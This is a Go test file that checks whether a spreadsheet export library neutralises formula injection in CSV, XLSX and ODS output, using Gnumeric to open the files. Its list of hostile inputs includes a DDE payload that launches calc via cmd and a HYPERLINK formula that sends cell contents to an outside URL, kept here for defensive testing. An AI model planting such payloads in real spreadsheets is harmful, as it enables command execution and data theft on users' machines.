package sheet_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"rambu.id/internal/sheet"
)

// hostile are texts that a spreadsheet program might run.
func hostile() []string {
	return []string{
		"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=\"a\"&\"b\"",
		`=HYPERLINK("http://contoh.id?"&A1,"klik")`, "=cmd|' /C calc'!A0", "a;=1+1", "a;\t+1+1;-1+1", "%0A=1+1", "|cmd", "'=1+1", "=1+1\x00", "\x07=1+1",
	}
}

func table() sheet.Table {
	t := sheet.Table{Name: "Sebaran: arahan [1]", Head: []string{"Jabatan", "Jumlah", "=2+2"}}
	for i, s := range hostile() {
		t.Rows = append(t.Rows, []any{s, i - 3, "Kepala Dinas, “Contoh” <&> é 語"})
	}
	return t
}

// opened converts a file by Gnumeric, a spreadsheet program that evaluates what it takes for a
// formula, and returns the cells it then has.
func opened(t *testing.T, name string, content []byte) [][]string {
	t.Helper()
	dir := t.TempDir()
	in, out := filepath.Join(dir, name), filepath.Join(dir, "hasil.csv")
	err := os.WriteFile(in, content, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(t.Context(), "ssconvert", "--recalc", in, out)
	cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8", "HOME="+dir)
	said, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("ssconvert (see tools/install-test-deps.sh): %v\n%s", err, said)
	}
	text, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(text))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// plain is a text as any program may show it: without white space, and without the apostrophe by
// which CSV is made harmless.
func plain(s string) string {
	return strings.NewReplacer("'", "", " ", "", "\t", "", "\n", "", "\r", "", "\u00a0", "", "\x00", "", "\x07", "").Replace(s)
}

// A real spreadsheet program opens each of the three files, runs nothing of it, and has the numbers
// as numbers.
func TestASpreadsheetProgramRunsNothing(t *testing.T) {
	t.Parallel()
	// The program does run formulas: without our care it would.
	control := opened(t, "bahaya.csv", []byte("a\n=1+1\n"))
	if len(control) != 2 || control[1][0] != "2" {
		t.Fatalf("the program runs no formula at all: %v", control)
	}
	for _, f := range sheet.Formats() {
		var b bytes.Buffer
		err := table().Write(&b, f)
		if err != nil {
			t.Fatal(err)
		}
		got := opened(t, "tabel."+string(f), b.Bytes())
		want := table()
		if len(got) != len(want.Rows)+1 || plain(got[0][2]) != "=2+2" {
			t.Fatalf("%s: %d rows, heading %q", f, len(got), got[0])
		}
		for i, row := range want.Rows {
			text, _ := row[0].(string)
			if diff := cmp.Diff([]string{plain(text), numberOf(row[1]), plain(row[2].(string))}, []string{plain(got[i+1][0]), got[i+1][1], plain(got[i+1][2])}); diff != "" { //nolint:forcetypeassert // made above
				t.Errorf("%s, %q (-want +got):\n%s", f, text, diff)
			}
		}
	}
	sums(t)
}

func numberOf(v any) string {
	var b bytes.Buffer
	t := sheet.Table{Head: []string{"n"}, Rows: [][]any{{v}}}
	_ = t.Write(&b, sheet.CSV)
	return strings.Split(strings.TrimSpace(b.String()), "\r\n")[1]
}

// sums: what was written as a number adds up, and what was written as text does not.
func sums(t *testing.T) {
	t.Helper()
	for _, f := range []sheet.Format{sheet.XLSX, sheet.ODS} {
		var b bytes.Buffer
		err := sheet.Table{Name: "n", Head: []string{"a", "b"}, Rows: [][]any{{40, "40"}, {2, "2"}}}.Write(&b, f)
		if err != nil {
			t.Fatal(err)
		}
		dir := t.TempDir()
		in, out := filepath.Join(dir, "n."+string(f)), filepath.Join(dir, "n.gnumeric")
		if err := os.WriteFile(in, b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		cmd := exec.CommandContext(t.Context(), "ssconvert", in, out)
		cmd.Env = append(os.Environ(), "HOME="+dir)
		if said, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("ssconvert: %v\n%s", err, said)
		}
		packed, err := exec.CommandContext(t.Context(), "gzip", "-dc", out).Output()
		if err != nil {
			t.Fatal(err)
		}
		// Gnumeric's own format says of each cell what it is: 40 is a float, 60 a string.
		got := string(packed)
		if strings.Count(got, `ValueType="40"`) != 2 || strings.Count(got, `ValueType="60"`) != 4 || strings.Contains(got, "=") && strings.Contains(got, ">=") {
			t.Errorf("%s: the cells are not two numbers and four texts:\n%s", f, got)
		}
	}
}

// What Rambu writes, Rambu reads: a list that leaves may come back.
func TestItComesBack(t *testing.T) {
	t.Parallel()
	for _, f := range []sheet.Format{sheet.CSV, sheet.XLSX} {
		var b bytes.Buffer
		err := sheet.Table{Name: "n", Head: []string{"a", "b"}, Rows: [][]any{{"=1+1;=2", 7}, {"+62812", -3}}}.Write(&b, f)
		if err != nil {
			t.Fatal(err)
		}
		if f == sheet.CSV && !bytes.HasPrefix(b.Bytes(), []byte("\xef\xbb\xbf")) {
			t.Error("no byte order mark: Excel would take it for Windows-1252")
		}
		got, err := sheet.Read(&b, sheet.StaffLimits())
		want := []sheet.Row{{Line: 1, Cells: []string{"a", "b"}}, {Line: 2, Cells: []string{"=1+1;=2", "7"}}, {Line: 3, Cells: []string{"+62812", "-3"}}}
		if diff := cmp.Diff(want, got); diff != "" || err != nil {
			t.Errorf("%s: %v (-want +got):\n%s", f, err, diff)
		}
	}
	err := sheet.Table{Head: []string{"a"}, Rows: [][]any{{1.5}}}.Write(&bytes.Buffer{}, sheet.ODS)
	if err == nil {
		t.Error("a value that is neither text nor number was written")
	}
}
